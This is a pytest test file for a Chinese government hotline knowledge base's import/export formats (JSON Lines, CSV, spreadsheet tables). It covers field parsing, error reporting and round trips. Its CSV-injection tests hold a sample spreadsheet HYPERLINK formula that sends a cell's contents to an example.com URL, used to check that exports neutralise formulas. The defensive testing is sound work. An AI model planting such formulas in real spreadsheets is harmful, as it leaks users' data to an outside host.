"""Knowledge-base import/export formats (第二十九–三十一条).

第三十条: 规范信息数据录入标准 … 多方校核、查漏纠错 — a department's file is checked as a
whole and every problem is reported; 谁提供、谁维护、谁更新 — owner unit, review state,
version and update time survive every format.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta, timezone

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from hotline_desk.core.errors import DataFormatError
from hotline_desk.core.kb.entry import KBEntry, Region
from hotline_desk.core.kb.formats import (
    BEIJING,
    CHINESE_HEADERS,
    FIELD_ALIASES,
    TABLE_FIELDS,
    TEXT_FIELDS,
    canonical_field,
    entry_to_json,
    join_list,
    looks_like_formula,
    parse_csv,
    parse_date,
    parse_datetime,
    parse_jsonl,
    parse_records,
    parse_table,
    quote_formula,
    split_list,
    to_csv,
    to_json_array,
    to_jsonl,
    to_table,
    unquote_formula,
)
from hotline_desk.core.vocabulary import Area, ReviewState

# A line in the canonical form of notes/kb_jsonl_format.md (field order, spacing, null).
CANONICAL_LINE = (
    '{"id": "KB-GJJ-0001", "title": "合肥市住房公积金租房提取条件",'
    ' "answer": "连续足额缴存满3个月可申请。",'
    ' "questions": ["租房能取公积金吗", "房租可以用公积金付吗"],'
    ' "keywords": ["公积金", "租房提取"],'
    ' "policy_basis": "《住房公积金管理条例》", "category": "public_service",'
    ' "owner_unit": "合肥市住房公积金管理中心",'
    ' "region": {"province": "安徽省", "city": "合肥市", "district": ""},'
    ' "valid_from": "2024-01-01", "valid_to": null, "review_state": "published", "version": 1,'
    ' "updated_at": "2026-06-01T09:00:00+08:00"}'
)
CANONICAL_ENTRY = KBEntry(
    id="KB-GJJ-0001", title="合肥市住房公积金租房提取条件", answer="连续足额缴存满3个月可申请。",
    questions=("租房能取公积金吗", "房租可以用公积金付吗"), keywords=("公积金", "租房提取"),
    policy_basis="《住房公积金管理条例》", category=Area.PUBLIC_SERVICE,
    owner_unit="合肥市住房公积金管理中心", region=Region("安徽省", "合肥市", ""),
    valid_from=date(2024, 1, 1), valid_to=None, review_state=ReviewState.PUBLISHED, version=1,
    updated_at=datetime(2026, 6, 1, 9, 0, tzinfo=BEIJING),
)


def _problems(action: object, *args: object) -> list[tuple[str, str, str]]:
    with pytest.raises(DataFormatError) as info:
        action(*args)  # type: ignore[operator]
    assert info.value.message_zh.startswith("知识库文件有误，整个文件未导入")
    return info.value.problems


def _where(problems: list[tuple[str, str, str]]) -> set[tuple[str, str]]:
    return {(loc, field) for loc, field, _message in problems}


# ---------------------------------------------------------------- JSON Lines


def test_canonical_jsonl_line() -> None:
    """第三十条: the canonical JSON Lines form reads into the exact KBEntry and back."""
    result = parse_jsonl(CANONICAL_LINE + "\n")
    assert result.entries == (CANONICAL_ENTRY,)
    assert result.warnings == ()
    assert to_jsonl([CANONICAL_ENTRY]) == CANONICAL_LINE + "\n"


def test_jsonl_lenient_forms() -> None:
    """第三十条: flat region fields, labels instead of codes, list as text, Chinese keys."""
    line = json.dumps({
        "编号": "A1", "标题": "标题", "答复口径": "答复", "相似问题": "问法一|问法二",
        "keywords": "甲；乙", "分类": "市场监管", "状态": "草稿", "city": "芜湖市",
        "district": "镜湖区", "version": "3", "updated_at": "2026-06-01 09:30",
        "valid_from": "2024/1/5",
    }, ensure_ascii=False)
    (entry,) = parse_jsonl("\ufeff" + line + "\r\n\r\n").entries
    assert entry.questions == ("问法一", "问法二")
    assert entry.keywords == ("甲", "乙")
    assert entry.category is Area.MARKET
    assert entry.review_state is ReviewState.DRAFT
    assert entry.region == Region("安徽省", "芜湖市", "镜湖区")
    assert entry.version == 3
    assert entry.updated_at == datetime(2026, 6, 1, 9, 30, tzinfo=BEIJING)
    assert entry.valid_from == date(2024, 1, 5)


def test_jsonl_defaults() -> None:
    """第三十条: only id, title and answer are required; the rest takes KBEntry defaults."""
    (entry,) = parse_jsonl('{"id": "x", "title": "t", "answer": "a"}').entries
    assert entry == KBEntry(id="x", title="t", answer="a")


def test_region_object_missing_part_uses_default_and_null_too() -> None:
    """第三十条: a region without province is an Anhui region (the Region default)."""
    (entry,) = parse_jsonl(
        '{"id": "x", "title": "t", "answer": "a", "region": {"city": "合肥市", "province": null}}'
    ).entries
    assert entry.region == Region("安徽省", "合肥市", "")


def test_region_conflict_and_shape() -> None:
    """第三十条: region and flat fields must agree; region must be an object."""
    text = "\n".join([
        '{"id": "a", "title": "t", "answer": "x", "city": "合肥市", "region": {"city": "芜湖市"}}',
        '{"id": "b", "title": "t", "answer": "x", "city": "合肥市", "region": {"city": "合肥市"}}',
        '{"id": "c", "title": "t", "answer": "x", "region": "合肥市"}',
        '{"id": "d", "title": "t", "answer": "x", "region": {"town": "x"}}',
    ])
    assert _where(_problems(parse_jsonl, text)) == {
        ("第1行", "city"), ("第3行", "region"), ("第4行", "region")}


def test_jsonl_every_problem_is_listed() -> None:
    """第三十条 查漏纠错: one pass reports every bad line and field."""
    lines = [
        '{"id": "A", "title": "", "answer": "x", "category": "foo"}',
        '{"id": "A", "title": "t", "answer": "x", "valid_from": "2024-02-01",'
        ' "valid_to": "2024-01-01", "version": 0, "review_state": "zz"}',
        "not json",
        "[1, 2]",
        '{"id": "B C", "title": 5, "answer": "x", "valid_from": "2024-02-30",'
        ' "updated_at": "yesterday", "questions": [1], "version": 1.5}',
        '{"title": "t"}',
        '{"id": "' + "x" * 65 + '", "title": "t", "answer": "\\u0007"}',
    ]
    problems = _problems(parse_jsonl, "\n".join(lines))
    assert _where(problems) == {
        ("第1行", "title"), ("第1行", "category"),
        ("第2行", "id"), ("第2行", "valid_to"), ("第2行", "version"), ("第2行", "review_state"),
        ("第3行", ""), ("第4行", ""),
        ("第5行", "id"), ("第5行", "title"), ("第5行", "valid_from"), ("第5行", "updated_at"),
        ("第5行", "questions"), ("第5行", "version"),
        ("第6行", "id"), ("第6行", "answer"),
        ("第7行", "id"), ("第7行", "answer"),
    }
    messages = {(loc, field): message for loc, field, message in problems}
    assert "与第1行重复" in messages[("第2行", "id")]
    assert "早于生效日期" in messages[("第2行", "valid_to")]
    assert messages[("第1行", "title")] == "缺少必填字段「标题」"
    assert "不能含有空格" in messages[("第5行", "id")]
    assert "控制字符" in messages[("第7行", "answer")]


def test_unknown_json_keys_warn_once_with_count() -> None:
    """第三十条: unknown fields are not silently dropped — they are reported as warnings."""
    text = "\n".join(f'{{"id": "{n}", "title": "t", "answer": "a", "备注": "x"}}'
                     for n in range(3))
    result = parse_jsonl(text)
    assert len(result.entries) == 3
    assert result.warnings == (("第1行", "备注", "未知字段「备注」，已忽略（共3处）"),)


@pytest.mark.parametrize("text", ["", "\n\n  \n", "[]"])
def test_empty_file_is_rejected(text: str) -> None:
    """第三十条: an import without entries is a mistake, not an empty knowledge base."""
    assert _where(_problems(parse_jsonl, text)) == {("文件", "")}


def test_json_array_form() -> None:
    """第三十一条 (sharing with other platforms): a JSON array is read and written too."""
    text = to_json_array([CANONICAL_ENTRY])
    assert json.loads(text)[0] == json.loads(CANONICAL_LINE)
    assert parse_jsonl(text).entries == (CANONICAL_ENTRY,)
    problems = _problems(parse_jsonl, '[{"id": "a", "title": "t", "answer": "x"}, 3, {"id": "a"}]')
    assert _where(problems) == {("第2条", ""), ("第3条", "id"), ("第3条", "title"),
                                ("第3条", "answer")}
    assert _where(_problems(parse_jsonl, "[1,")) == {("第1行", "")}


def test_unicode_line_separator_inside_json_string() -> None:
    """第三十条: U+2028 inside an answer does not split a JSON line."""
    entry = KBEntry(id="x", title="t", answer="第一段\u2028第二段")
    assert parse_jsonl(to_jsonl([entry])).entries == (entry,)


def test_naive_updated_at_is_beijing_time() -> None:
    """第三十条 实时更新: update times without an offset are the centre's time (+08:00)."""
    entry = KBEntry(id="x", title="t", answer="a", updated_at=datetime(2026, 1, 2, 3, 4))
    assert entry_to_json(entry)["updated_at"] == "2026-01-02T03:04:00+08:00"
    (back,) = parse_jsonl(to_jsonl([entry])).entries
    assert back.updated_at == datetime(2026, 1, 2, 3, 4, tzinfo=BEIJING)


# ---------------------------------------------------------------- CSV and tables

CHINESE_CSV = (
    "编号,标题,答复口径,相似问题,关键词,政策依据,分类,责任单位,省,市,区县,生效日期,失效日期,状态,版本,更新时间\n"
    'GJJ-1,公积金租房提取,"可以提取，需满足条件。\n可在皖事通办理。",租房能取公积金吗；房租能用公积金吗,'
    "公积金;租房,《住房公积金管理条例》,公共服务,合肥市住房公积金管理中心,安徽省,合肥市,蜀山区,"
    "2024年1月1日,2027/12/31,已发布,2,2026-06-01 09:00:00\n"
)


def test_chinese_headers_csv() -> None:
    """第三十条: departments deliver spreadsheets with Chinese headers and labels."""
    (entry,) = parse_csv(CHINESE_CSV).entries
    assert entry == KBEntry(
        id="GJJ-1", title="公积金租房提取", answer="可以提取，需满足条件。\n可在皖事通办理。",
        questions=("租房能取公积金吗", "房租能用公积金吗"), keywords=("公积金", "租房"),
        policy_basis="《住房公积金管理条例》", category=Area.PUBLIC_SERVICE,
        owner_unit="合肥市住房公积金管理中心", region=Region("安徽省", "合肥市", "蜀山区"),
        valid_from=date(2024, 1, 1), valid_to=date(2027, 12, 31),
        review_state=ReviewState.PUBLISHED, version=2,
        updated_at=datetime(2026, 6, 1, 9, 0, tzinfo=BEIJING),
    )


def test_csv_with_bom_and_crlf() -> None:
    """第三十条: Excel's UTF-8 CSV (BOM, CRLF) reads the same."""
    text = "\ufeff" + CHINESE_CSV.replace("\n", "\r\n")
    assert parse_csv(text).entries == parse_csv(CHINESE_CSV).entries


def test_header_aliases_and_markers() -> None:
    """第三十条: header variants (case, spaces, *, （必填）) map to the same fields."""
    assert canonical_field(" 标题* ") == "title"
    assert canonical_field("答复口径（必填）") == "answer"
    assert canonical_field("Valid_From") == "valid_from"
    assert canonical_field("valid from") == "valid_from"
    assert canonical_field("区/县") == "district"
    assert canonical_field("备注") is None
    for field in TABLE_FIELDS:
        assert canonical_field(field) == field
        assert canonical_field(CHINESE_HEADERS[field]) == field
        for alias in FIELD_ALIASES[field]:  # no alias is claimed by two fields
            assert canonical_field(alias) == field, alias


def test_title_row_above_header_is_skipped_and_unknown_columns_warn() -> None:
    """第三十条: a template's title row and extra columns do not block an import."""
    text = ("合肥市公积金中心知识库导入模板,,,,\n"
            "序号,编号,标题,答复口径,备注\n"
            "1,A,标题,答复,内部备注\n"
            ",,,,\n"
            "2,B,标题二,答复二,\n")
    result = parse_csv(text)
    assert [e.id for e in result.entries] == ["A", "B"]
    assert set(result.warnings) == {
        ("第1行", "", "表头之前的行，已跳过"),
        ("第2行", "序号", "未知列「序号」，已忽略"),
        ("第2行", "备注", "未知列「备注」，已忽略"),
    }


def test_missing_and_duplicate_columns() -> None:
    """第三十条: a header without the required columns is rejected, naming them."""
    problems = _problems(parse_csv, "标题,title,状态\nx,y,z\n")
    assert _where(problems) == {("第1行（表头）", "title"), ("第1行（表头）", "id"),
                                ("第1行（表头）", "answer")}
    problems = _problems(parse_csv, "编号,标题,答复口径,答案\n1,t,a,b\n")
    assert _where(problems) == {("第1行（表头）", "答案")}


def test_csv_every_problem_with_line_numbers() -> None:
    """第三十条 查漏纠错: every bad row is reported with its line number.

    A quoted cell spanning two lines counts both lines, as an editor shows them.
    """
    text = ("id,title,answer,category,review_state,version,valid_from,valid_to\n"
            'A,t,"two\nlines",经济调节,已发布,1,2024-01-01,\n'
            "A,t,a,economic,published,x,,\n"
            ",t,a,foo,bar,-2,2024-01-01,2023-12-31\n"
            "C,t,a,,,,,,extra\n"
            "D,t,a,,,,2024-13-01,\n")
    problems = _problems(parse_csv, text)
    assert _where(problems) == {
        ("第4行", "id"), ("第4行", "version"),
        ("第5行", "id"), ("第5行", "category"), ("第5行", "review_state"), ("第5行", "version"),
        ("第5行", "valid_to"),
        ("第6行", ""),
        ("第7行", "valid_from"),
    }


def test_header_only_and_empty_csv() -> None:
    """第三十条: a file without entries is rejected."""
    assert _where(_problems(parse_csv, "id,title,answer\n")) == {("文件", "")}
    assert _where(_problems(parse_csv, "")) == {("文件", "")}


def test_table_rows_and_record_rows() -> None:
    """第三十条: spreadsheet rows (XLSX) use the same rules; empty cells may be None."""
    rows = [(1, ["编号", "标题", "答复口径", "市", None]),
            (2, [None, None, None, None, None]),
            (3, ["K1", "标题", "答复", None]),
            (4, ["K2", "标题", "答复", "合肥市", None, None])]
    result = parse_table(rows)
    assert [(e.id, e.region) for e in result.entries] == [
        ("K1", Region("安徽省", "", "")), ("K2", Region("安徽省", "合肥市", ""))]
    records = [(2, {"编号": "R1", "标题": "t", "答复口径": "a", "省": None}),
               (3, {"编号": "R2", "标题": "t", "答复口径": "a", "省": "安徽省", "备注": "x"})]
    result = parse_records(records)
    assert [(e.id, e.region.province) for e in result.entries] == [("R1", ""), ("R2", "安徽省")]
    assert result.warnings == (("第1行", "备注", "未知列「备注」，已忽略"),)
    problems = _problems(parse_records, [(7, {"编号": "R1", "标题": "t", "答复口径": None})])
    assert _where(problems) == {("第7行", "answer")}


def test_no_header_within_five_rows() -> None:
    """第三十条: without a recognisable header the first row's problems are reported."""
    rows = [(n, ["说明", str(n)]) for n in range(1, 8)]
    assert _where(_problems(parse_table, rows)) == {
        ("第1行（表头）", "id"), ("第1行（表头）", "title"), ("第1行（表头）", "answer")}


def test_export_refuses_bar_inside_list_items() -> None:
    """第三十条: export never writes a cell that would read back differently."""
    entry = KBEntry(id="x", title="t", answer="a", keywords=("a|b",), questions=("好｜吗",))
    with pytest.raises(DataFormatError) as info:
        to_csv([entry])
    assert _where(info.value.problems) == {("编号x", "keywords"), ("编号x", "questions")}
    assert parse_jsonl(to_jsonl([entry])).entries == (entry,)  # JSON keeps them


def test_chinese_header_export() -> None:
    """第三十条: an export for departments uses their headers and labels."""
    rows = to_table([CANONICAL_ENTRY], chinese_headers=True)
    assert rows[0] == [CHINESE_HEADERS[f] for f in TABLE_FIELDS]
    assert rows[1][TABLE_FIELDS.index("category")] == "公共服务"
    assert rows[1][TABLE_FIELDS.index("review_state")] == "已发布"
    assert next(csv.reader(io.StringIO(to_csv([CANONICAL_ENTRY]))))[0] == "id"


# ---------------------------------------------------------------- formulas (CSV injection)

HYPERLINK = '=HYPERLINK("http://example.com/?q="&A1,"点击查看最新政策")'


@pytest.mark.parametrize(("text", "quoted"), [
    (HYPERLINK, "'" + HYPERLINK), ("+86 0551-12345", "'+86 0551-12345"),
    ("-1+2", "'-1+2"), ("@SUM(A1:A2)", "'@SUM(A1:A2)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("'=1", "''=1"), ("''-x", "'''-x"),
    ("'普通文本", "'普通文本"), ("普通=文本", "普通=文本"), ("'", "'"), ("", ""),
])
def test_quote_formula(text: str, quoted: str) -> None:
    """第三十条 权威准确: a text Excel would run as a formula is written as text (OWASP)."""
    assert quote_formula(text) == quoted
    assert unquote_formula(quoted) == text


@given(st.text(st.sampled_from("=+-@\t\r'a文") | st.characters(), max_size=8))
def test_quote_formula_is_safe_and_reversible(text: str) -> None:
    """第三十条: a quoted cell never starts a formula and always reads back to the text."""
    assert not looks_like_formula(quote_formula(text))
    assert unquote_formula(quote_formula(text)) == text


def test_csv_export_writes_formulas_as_text_and_reads_them_back() -> None:
    """第三十条 权威准确: an answer "=HYPERLINK(…)" is no live link in a department's Excel.

    Every text cell that would start a formula carries one leading "'"; dates, version,
    category and state are written as they are."""
    entry = KBEntry(
        id="-KB-1", title="+86 热线怎么打", answer=HYPERLINK, questions=("=1+1", "问"),
        keywords=("@提醒",), policy_basis="-《条例》", owner_unit="'=单位",
        region=Region("安徽省", "-合肥市", "@区"), valid_from=date(2024, 1, 1),
        category=Area.PUBLIC_SERVICE, version=3,
        updated_at=datetime(2026, 6, 1, 9, 0, tzinfo=timezone(timedelta(hours=-5))))
    text = to_csv([entry])
    header, row = csv.reader(io.StringIO(text, newline=""))
    cells = dict(zip(header, row, strict=True))
    assert not any(looks_like_formula(cell) for cell in row)
    assert cells["answer"] == "'" + HYPERLINK
    assert cells["questions"] == "'=1+1|问" and cells["owner_unit"] == "''=单位"
    assert {field for field in TABLE_FIELDS if cells[field].startswith("'")} == (
        TEXT_FIELDS - {"province"})
    assert [cells[f] for f in ("valid_from", "version", "category", "updated_at")] == [
        "2024-01-01", "3", "public_service", "2026-06-01T09:00:00-05:00"]
    assert parse_csv(text).entries == (entry,)


def test_department_csv_quotes_are_removed_from_text_cells_only() -> None:
    """第三十条: a department's CSV written the OWASP way ("'=…") imports as the text;
    a "'" before a text that is no formula is kept, and dates are never unquoted."""
    text = ("编号,标题,答复口径,关键词,市\n"
            "'-1,'=SUM(A1),'+86 0551-12345,'-甲|乙,'@市\n"
            "A2,'普通标题,''=两个引号,'甲,' -空格在前\n")
    first, second = parse_csv(text).entries
    assert (first.id, first.title, first.answer) == ("-1", "=SUM(A1)", "+86 0551-12345")
    assert first.keywords == ("-甲", "乙") and first.region.city == "@市"
    assert (second.title, second.answer, second.keywords) == ("'普通标题", "'=两个引号", ("'甲",))
    assert second.region.city == "' -空格在前"
    problems = _problems(parse_csv, "编号,标题,答复口径,生效日期\nA,t,a,'2024-01-01\n")
    assert _where(problems) == {("第2行", "valid_from")}


def test_typed_table_keeps_formula_texts_as_they_are() -> None:
    """第三十条: for XLSX (typed cells) only a text starting with "'" gets another one."""
    entry = KBEntry(id="K", title=HYPERLINK, answer="'-有引号", policy_basis="'普通")
    header, row = to_table([entry], typed_text=True)
    cells = dict(zip(header, row, strict=True))
    assert (cells["title"], cells["answer"], cells["policy_basis"]) == (
        HYPERLINK, "''-有引号", "'普通")
    assert parse_table(enumerate([header, row], start=1)).entries == (entry,)


def test_json_is_never_unquoted() -> None:
    """第三十一条: JSON carries text exactly; a leading "'" there is part of the text."""
    (entry,) = parse_jsonl('{"id": "x", "title": "\'=1", "answer": "\'-a"}').entries
    assert (entry.title, entry.answer) == ("'=1", "'-a")


# ---------------------------------------------------------------- values


@pytest.mark.parametrize(("text", "expected"), [
    ("a|b", ("a", "b")), ("a｜b；c", ("a", "b；c")), ("a；b;c\nd", ("a", "b", "c", "d")),
    (" a | | b ", ("a", "b")), ("单项;含分号|", ("单项;含分号",)), ("", ()),
])
def test_split_list(text: str, expected: tuple[str, ...]) -> None:
    """第三十条: list cells split on | (or ；/;/line breaks when there is no |)."""
    assert split_list(text) == expected


@pytest.mark.parametrize(("text", "expected"), [
    ("2024-01-01", date(2024, 1, 1)), ("2024/1/2", date(2024, 1, 2)),
    ("2024.03.04", date(2024, 3, 4)), ("2024年5月6日", date(2024, 5, 6)),
    ("2024-01-01 00:00:00", date(2024, 1, 1)), ("2024-01-01T00:00", date(2024, 1, 1)),
    ("20240101", date(2024, 1, 1)), ("2024-02-30", None), ("明天", None),
    ("2024-01-01 09:00", None),
])
def test_parse_date(text: str, expected: date | None) -> None:
    """第三十条: dates as spreadsheets write them."""
    assert parse_date(text) == expected


@pytest.mark.parametrize(("text", "expected"), [
    ("2026-06-01T09:00:00+08:00", datetime(2026, 6, 1, 9, tzinfo=BEIJING)),
    ("2026-06-01T01:00:00Z", datetime(2026, 6, 1, 9, tzinfo=BEIJING)),
    ("2026-06-01 09:00", datetime(2026, 6, 1, 9, tzinfo=BEIJING)),
    ("2026/6/1 9:05", datetime(2026, 6, 1, 9, 5, tzinfo=BEIJING)),
    ("2026年6月1日 09:05:06", datetime(2026, 6, 1, 9, 5, 6, tzinfo=BEIJING)),
    ("2026-06-01", datetime(2026, 6, 1, tzinfo=BEIJING)),
    ("2026-06-31 09:00", None), ("soon", None),
])
def test_parse_datetime(text: str, expected: datetime | None) -> None:
    """第三十条 实时更新: update times with or without an offset."""
    assert parse_datetime(text) == expected


# ---------------------------------------------------------------- properties

_text_chars = st.characters(blacklist_categories=("Cc", "Cs", "Cn")) | st.sampled_from("\n\t")
# Texts often start like a formula (CSV injection: = + - @ tab), or with "'" before one.
_formula_start = st.sampled_from(["", "", "", "=", "+", "-", "@", "'", "'=", "''-", "\t=",
                                  "'\t+", HYPERLINK, "=SUM(A1:A3)", "-1", "+86 "])
_text = st.builds(str.__add__, _formula_start,
                  st.text(_text_chars, max_size=30)).map(str.strip)
_required_text = _text.filter(bool)
# List items: no "|" (it separates items in a cell), and the other separators often.
_item_chars = (st.characters(blacklist_categories=("Cc", "Cs", "Cn"),
                             blacklist_characters="|｜")
               | st.sampled_from("\n\t;；"))
_item = st.builds(str.__add__, st.sampled_from(["", "", "=", "-", "@", "'+"]),
                  st.text(_item_chars, max_size=12)).map(str.strip).filter(bool)
_ids = st.builds(str.__add__, st.sampled_from(["", "", "=", "-", "+", "@", "'", "'="]),
                 st.text(st.characters(blacklist_categories=("Cc", "Cs", "Cn", "Z")),
                         min_size=1, max_size=20)
                 ).filter(lambda s: s == s.strip() and not any(c.isspace() for c in s))
_zones = st.sampled_from([BEIJING, UTC, timezone(timedelta(hours=-5, minutes=-30))])


@st.composite
def _entries(draw: st.DrawFn) -> KBEntry:
    valid_from = draw(st.none() | st.dates(date(1990, 1, 1), date(2100, 1, 1)))
    valid_to = draw(st.none() | st.dates(valid_from or date(1990, 1, 1), date(2100, 12, 31)))
    return KBEntry(
        id=draw(_ids), title=draw(_required_text), answer=draw(_required_text),
        questions=tuple(draw(st.lists(_item, max_size=4))),
        keywords=tuple(draw(st.lists(_item, max_size=4))),
        policy_basis=draw(_text), category=draw(st.none() | st.sampled_from(Area)),
        owner_unit=draw(_text),
        region=Region(draw(st.sampled_from(["安徽省", ""]) | _text), draw(_text), draw(_text)),
        valid_from=valid_from, valid_to=valid_to,
        review_state=draw(st.sampled_from(ReviewState)),
        version=draw(st.integers(1, 10**9)),
        updated_at=draw(st.none() | st.datetimes(datetime(1990, 1, 1), datetime(2100, 1, 1),
                                                 timezones=_zones)),
    )


_entry_lists = st.lists(_entries(), min_size=1, max_size=6, unique_by=lambda e: e.id)


@given(_entry_lists)
def test_jsonl_round_trip(entries: list[KBEntry]) -> None:
    """第三十一条 同步更新: export then import gives the same entries (JSON Lines and array)."""
    assert parse_jsonl(to_jsonl(entries)).entries == tuple(entries)
    assert parse_jsonl(to_json_array(entries)).entries == tuple(entries)


@given(_entry_lists, st.booleans())
def test_csv_round_trip(entries: list[KBEntry], chinese: bool) -> None:
    """第三十一条 同步更新: export then import gives the same entries (CSV, both header styles)."""
    result = parse_csv(to_csv(entries, chinese_headers=chinese))
    assert result.entries == tuple(entries)
    assert result.warnings == ()


@given(_entry_lists, st.booleans())
def test_table_round_trip(entries: list[KBEntry], typed: bool) -> None:
    """第三十一条: table rows round-trip too, quoted for CSV or typed for XLSX.

    第三十条 权威准确: with the CSV quoting no cell of an export can start a formula."""
    rows = to_table(entries, typed_text=typed)
    assert parse_table(enumerate(rows, start=1)).entries == tuple(entries)
    if not typed:
        assert not any(looks_like_formula(cell) for row in rows for cell in row)


@example(["一项;含分号"])
@example(["第一行\n第二行"])
@given(st.lists(_item, max_size=5))
def test_list_cells_round_trip(items: list[str]) -> None:
    """第三十条: a list written to one cell reads back item for item."""
    assert split_list(join_list(items)) == tuple(items)


@settings(max_examples=200)
@given(st.text(max_size=200))
def test_any_text_is_entries_or_a_data_format_error(text: str) -> None:
    """第三十条: a malformed file never crashes the import — it is rejected with problems."""
    for parse in (parse_jsonl, parse_csv):
        try:
            parse(text)
        except DataFormatError as exc:
            assert exc.problems
            assert all(isinstance(part, str) for problem in exc.problems for part in problem)


@given(st.lists(st.lists(st.none() | st.text(max_size=6), max_size=6), max_size=6))
def test_any_rows_are_entries_or_a_data_format_error(rows: list[list[str | None]]) -> None:
    """第三十条: arbitrary spreadsheet rows never crash the import."""
    try:
        parse_table(enumerate([["id", "title", "answer", "version", "valid_from"], *rows]))
    except DataFormatError as exc:
        assert exc.problems
